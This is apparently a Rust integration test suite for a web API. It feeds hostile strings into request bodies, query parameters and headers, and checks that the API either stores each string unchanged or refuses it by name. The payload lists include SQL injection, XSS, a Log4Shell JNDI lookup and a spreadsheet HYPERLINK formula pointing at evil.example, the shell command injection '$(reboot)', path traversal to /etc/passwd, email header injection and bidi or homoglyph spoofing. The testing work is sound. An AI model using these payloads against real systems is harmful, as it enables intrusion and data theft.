//! Texts that try to be something else: SQL, HTML, formulas, other people's names.

use crate::{
    calls::scene::{Answer, Fresh},
    desk::{Case, Desk},
    schema::{Field, Kind, Parameter},
};
use axum::body::Body;
use http::header;
use latarnik_testkit::on_both_engines;
use serde_json::{Value, json};
use std::collections::BTreeSet;

/// Longest name.
const LONGEST: usize = 100;

/// What a name may hold: strange, and visible.
const VISIBLE: &[&str] = &[
    "'; DROP TABLE devices; --",
    "' OR '1'='1",
    "\\'; SELECT pg_sleep(10); --",
    "x'; ATTACH DATABASE '/tmp/a' AS a; --",
    "%",
    "_",
    "\\",
    "$1 $2 ? :name @p1",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</textarea><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${jndi:ldap://evil.example/a}",
    "$(reboot) `reboot` ; reboot | reboot",
    "../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "=HYPERLINK(\"http://evil.example\")",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "%s%s%n%x",
    "null",
    "NaN",
    "🦀",
    "𝒳𐐷",
    "e\u{301}",
    "Z\u{338}\u{322}\u{353}a\u{36b}",
    "ﷺ",
    "İıſ\u{212a}",
    "аdmin",
    "ａｄｍｉｎ",
    "שלום",
    "日本語",
];

/// What hides, turns around, or breaks lines.
const INVISIBLE: &[&str] = &[
    "\0",
    "\r\nBcc: all@example.com\r\n\r\n",
    "\n",
    "\r",
    "\ta",
    "\u{1b}[31m",
    "\u{8}",
    "\u{7f}",
    "\u{85}a",
    "\u{9b}31m",
    "\u{202e}gpj.exe",
    "\u{2066}a\u{2069}",
    "\u{200b}",
    "\u{200d}",
    "\u{2060}",
    "\u{feff}",
    "\u{ad}",
    "\u{e0041}",
    "\u{2028}",
];

/// A text, and what is known of it.
struct Hostile {
    text: String,
    /// Stands in it and in no other.
    mark: String,
    /// Whether a name may be that.
    is_name: bool,
}

fn hostile(number: u32) -> Vec<Hostile> {
    let count = VISIBLE.len() + INVISIBLE.len() + 4;
    let mark = |position: usize| format!("q{number}q{position:03}q");
    let texts = VISIBLE.iter().map(|text| (*text, true));
    let texts = texts.chain(INVISIBLE.iter().map(|text| (*text, false)));
    let mut all: Vec<_> = texts
        .enumerate()
        .map(|(position, (text, is_name))| {
            let mark = mark(position);
            let text = format!("{text}{mark}");
            Hostile {
                text,
                mark,
                is_name,
            }
        })
        .collect();
    for (position, length) in [LONGEST, LONGEST + 1, 5000, 60_000].into_iter().enumerate() {
        let mark = mark(count - position);
        let letters = length - mark.len();
        let text = format!("{}{mark}", "ą".repeat(letters));
        let is_name = length <= LONGEST;
        all.push(Hostile {
            text,
            mark,
            is_name,
        });
    }
    let blank = |text: &str| Hostile {
        text: text.to_owned(),
        mark: format!("no{number}mark"),
        is_name: false,
    };
    all.extend([blank(""), blank("   ")]);
    all
}

/// All texts in an answer.
fn texts(value: &Value) -> Vec<&str> {
    match value {
        Value::String(text) => vec![text],
        Value::Array(items) => items.iter().flat_map(texts).collect(),
        Value::Object(fields) => fields.values().flat_map(texts).collect(),
        _ => Vec::new(),
    }
}

/// Whether a refusal names the field.
pub(crate) fn names(answer: &Answer, field: &Field) -> bool {
    let problem: Value = serde_json::from_str(&answer.text).unwrap_or_default();
    let errors = problem["field_errors"].as_array();
    errors.into_iter().flatten().any(|error| {
        error["code"].is_string() && error["field"].as_str().is_some_and(|f| field.lies_in(f))
    })
}

/// Passwords and codes are compared, never kept as they are.
const SECRETS: &[&str] = &[
    "password",
    "current_password",
    "new_password",
    "totp_code",
    "token",
    "code",
    "state",
    "client_secret",
];

fn is_secret(field: &Field) -> bool {
    SECRETS.contains(&field.name())
}

/// Sends a text in a field, and holds what became of it: it is kept as it is, or refused by name.
async fn send_text(
    desk: &Desk,
    case: &Case<'_>,
    fresh: &Fresh,
    (field, hostile): (&Field, &Hostile),
    (body, is_usual): (Value, bool),
) -> Option<String> {
    let answer = desk.send_json(case, fresh, body.to_string()).await;
    let found: Value = serde_json::from_str(&answer.text).unwrap_or_default();
    let is_taken = answer.status.is_success();
    if answer.status.as_u16() >= 400 {
        desk.hold(!answer.text.contains(&hostile.mark), case, &answer);
    }
    if answer.status.as_u16() == 422 && is_usual {
        desk.hold(names(&answer, field), case, &answer);
    }
    let is_public = case.operation.access == "public";
    if is_taken && hostile.text.contains('\0') {
        // PostgreSQL keeps no NUL: what is not kept may not be taken.
        desk.hold(is_public || is_secret(field), case, &answer);
    }
    let expected = hostile.text.trim();
    for text in texts(&found) {
        let is_whole = text == hostile.text || text.eq_ignore_ascii_case(expected);
        desk.hold(!text.contains(&hostile.mark) || is_whole, case, &answer);
    }
    let is_name = field.name() == "name" && is_usual;
    if is_name {
        desk.hold(is_taken == hostile.is_name, case, &answer);
        if is_taken {
            desk.hold(texts(&found).contains(&expected), case, &answer);
        }
    }
    (is_name && is_taken && case.operation.id.starts_with("create_")).then(|| expected.to_owned())
}

/// The version that a thing to be replaced has by now; nothing where there are no versions.
async fn version(desk: &Desk, case: &Case<'_>, fresh: &Fresh) -> Option<Value> {
    let thing = case.operation.id.strip_prefix("replace_")?;
    let read = format!("read_{thing}");
    let operation = desk.operations.iter().find(|one| one.id == read)?;
    let look = Case {
        operation,
        row: case.row,
        what: case.what.clone(),
    };
    let path = Desk::path(operation, case.row, fresh);
    let answer = desk.ask(&look, &path).await;
    let found: Value = serde_json::from_str(&answer.text).ok()?;
    found.get("version").cloned()
}

on_both_engines! {
    async fn texts_in_bodies_are_kept_as_they_are_or_refused_by_name(database: Database) {
        let desk = Desk::open(database).await;
        let mut kept = BTreeSet::new();
        for (operation, row) in desk.ways() {
            let Some(schema) = desk.schemas.body(operation) else { continue };
            let fresh = desk.scene.fresh().await;
            let usual = Case { operation, row: &row, what: "as usual".to_owned() };
            let body = desk.body(operation, &row, &fresh).to_string();
            let is_usual = desk.send_json(&usual, &fresh, body).await.status.is_success();
            for field in desk.schemas.fields(&schema) {
                if field.kind != Kind::Text {
                    continue;
                }
                for hostile in hostile(desk.number()) {
                    // What is only compared makes nothing of markup, and takes its time.
                    if hostile.is_name && is_secret(&field) {
                        continue;
                    }
                    let what = format!("{:?} = {:?}", field.path, hostile.text);
                    let case = Case { operation, row: &row, what };
                    let mut whole = desk.body(operation, &row, &fresh);
                    if let Some(version) = version(&desk, &case, &fresh).await {
                        whole["version"] = version;
                    }
                    let mut bare = desk.schemas.bare(&schema, &whole);
                    for body in [&mut whole, &mut bare] {
                        desk.schemas.put(&schema, body, &field.path, json!(hostile.text));
                    }
                    let sent = (&field, &hostile);
                    let is_other = bare != whole;
                    kept.extend(send_text(&desk, &case, &fresh, sent, (whole, is_usual)).await);
                    if is_other {
                        send_text(&desk, &case, &fresh, sent, (bare, false)).await;
                    }
                }
            }
        }
        assert!(kept.len() >= 5 * VISIBLE.len(), "{} names were kept", kept.len());
        let mut shown = BTreeSet::new();
        for operation in desk.operations.iter().filter(|one| one.id.starts_with("list_")) {
            let row = desk.rows.iter().find(|row| row.operation == operation.id).unwrap();
            if desk.has_id(operation) {
                continue;
            }
            let is_paged = desk.schemas.parameters(operation).iter().any(|one| one.name == "limit");
            let case = Case { operation, row, what: "the list".to_owned() };
            let path = format!("{}{}", operation.path, if is_paged { "?limit=500" } else { "" });
            let answer = desk.ask(&case, &path).await;
            let list: Value = serde_json::from_str(&answer.text).unwrap();
            shown.extend(texts(&list).into_iter().map(str::to_owned));
        }
        let lost: Vec<_> = kept.difference(&shown).collect();
        assert!(lost.is_empty(), "{} names are not in the lists as they were: {lost:?}", lost.len());
        desk.close("texts in bodies").await;
    }

    async fn texts_in_queries_find_what_has_them_or_are_refused(database: Database) {
        let desk = Desk::open(database).await;
        let fresh = desk.scene.fresh().await;
        for (operation, row) in desk.ways() {
            for parameter in desk.schemas.parameters(operation) {
                if parameter.place != "query" {
                    continue;
                }
                for text in queries(&desk, &parameter) {
                    let what = format!("{} = {text:?}", parameter.name);
                    let case = Case { operation, row: &row, what };
                    let query = format!("{}={}", parameter.name, encoded(&text));
                    let path = Desk::path_with(&case, &fresh, &query);
                    // Longer than any server takes.
                    if path.len() > 60_000 {
                        continue;
                    }
                    let answer = desk.ask(&case, &path).await;
                    let status = answer.status.as_u16();
                    desk.hold(matches!(status, 200 | 400 | 422), &case, &answer);
                    let is_no_text = text.contains('\0') || text.len() > 5000;
                    desk.hold(status != 200 || !is_no_text, &case, &answer);
                    if status == 422 {
                        let found: Value = serde_json::from_str(&answer.text).unwrap();
                        let named = found["field_errors"][0]["field"] == parameter.name.as_str();
                        desk.hold(named, &case, &answer);
                    }
                    // None of what there is has any of that in it.
                    let found: Value = serde_json::from_str(&answer.text).unwrap_or_default();
                    if text.len() > 3 && parameter.kind == Kind::Text && found["items"].is_array() {
                        let is_empty = found["items"].as_array().is_some_and(Vec::is_empty);
                        let narrows = !["cursor", "sort"].contains(&parameter.name.as_str());
                        desk.hold(is_empty || !narrows, &case, &answer);
                    }
                }
            }
        }
        desk.close("texts in queries").await;
    }

    async fn queries_take_no_parameter_twice_and_none_that_they_do_not_know(database: Database) {
        let desk = Desk::open(database).await;
        let fresh = desk.scene.fresh().await;
        for (operation, row) in desk.ways() {
            let parameters = desk.schemas.parameters(operation);
            let names: Vec<_> = parameters.iter().filter(|one| one.place == "query").map(|one| one.name.as_str()).collect();
            if names.is_empty() {
                continue;
            }
            let unknown = ["surprise=1", "Search=a", "search[]=a", "search%00=a", "__proto__=a", "=", "%ff=a"];
            let mut queries: Vec<String> = unknown.map(str::to_owned).to_vec();
            queries.push("surprise=1&".repeat(3000));
            for name in names {
                let value = if name == "format" { "csv" } else { "1" };
                queries.push(format!("{name}={value}&{name}={value}"));
            }
            for query in queries {
                let case = Case { operation, row: &row, what: query.clone() };
                let answer = desk.ask(&case, &Desk::path_with(&case, &fresh, &query)).await;
                desk.hold_refused(&case, &answer, 400, "malformed_request");
            }
        }
        desk.close("parameters").await;
    }

    async fn keys_of_actions_are_text_or_refused(database: Database) {
        let desk = Desk::open(database).await;
        let fresh = desk.scene.fresh().await;
        for (operation, row) in desk.ways() {
            for parameter in desk.schemas.parameters(operation) {
                if parameter.place != "header" {
                    continue;
                }
                for value in [
                    &b""[..],
                    b" ",
                    b"\t",
                    b"'; DROP TABLE actions; --",
                    b"\x80\xff",
                    "ż".as_bytes(),
                    &[b'a'; 201],
                    &[b'a'; 10_000],
                ] {
                    let what = format!("{}: {:?}", parameter.name, String::from_utf8_lossy(value));
                    let case = Case { operation, row: &row, what };
                    let path = Desk::path(operation, &row, &fresh);
                    let mut request = desk.head(operation, &path).header(header::CONTENT_TYPE, "application/json");
                    let name: http::HeaderName = parameter.name.parse().unwrap();
                    request.headers_mut().unwrap().insert(name, value.try_into().unwrap());
                    let body = desk.body(operation, &row, &fresh).to_string();
                    let answer = desk.send(&case, request.body(Body::from(body)).unwrap()).await;
                    let is_key = value.is_ascii() && (1..=200).contains(&value.trim_ascii().len());
                    let refused = matches!(answer.status.as_u16(), 400 | 422);
                    desk.hold(is_key || refused, &case, &answer);
                }
            }
        }
        desk.close("headers").await;
    }
}

/// What stands in a query's parameter.
fn queries(desk: &Desk, parameter: &Parameter) -> Vec<String> {
    let texts = |texts: &[&str]| texts.iter().map(|text| (*text).to_owned()).collect();
    let mut queries: Vec<String> = match parameter.kind {
        Kind::Number => texts(&[
            "",
            "-1",
            "0",
            "00",
            "501",
            "1e3",
            "0x10",
            "1.5",
            "4294967296",
            "18446744073709551616",
            "９",
            "NaN",
            " 5",
            "5 ",
            "5;DROP TABLE devices",
        ]),
        Kind::Instant => texts(&[
            "",
            "now",
            "0",
            "1e18",
            "2026-02-30T00:00:00Z",
            "2026-11-23",
            "2026-11-23T12:00:61Z",
            "9999-12-31T23:59:59.999999999Z",
            "-009999-01-01T00:00:00Z",
            "99999-01-01T00:00:00Z",
            "2026-11-23T12:00:00+99:99",
            "2026-11-23T12:00:00Z[Europe/Nowhere]",
        ]),
        Kind::Id => Vec::new(),
        _ => hostile(desk.number())
            .into_iter()
            .map(|hostile| hostile.text)
            .collect(),
    };
    if parameter.name == "cursor" {
        let id = "0193a1b2000070008000000000000000";
        for kind in ["t", "n", "x", "ż", ""] {
            for key in [
                "",
                "a",
                "\0",
                "\u{202e}",
                "'; DROP TABLE users; --",
                "0",
                "-1",
                "9223372036854775807",
                "-9223372036854775808",
                "9223372036854775808",
                "1e3",
            ] {
                queries.push(format!("{kind}{id}{key}"));
            }
            queries.push(format!("{kind}{id}{}", "a".repeat(20_000)));
            queries.push(format!("{kind}{}", &id[..31]));
        }
    }
    if parameter.name == "sort" {
        queries.extend(
            [
                "-",
                "--hostname",
                "hostname,id",
                "hostname DESC",
                "-password_hash",
            ]
            .map(str::to_owned),
        );
    }
    queries
}

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}
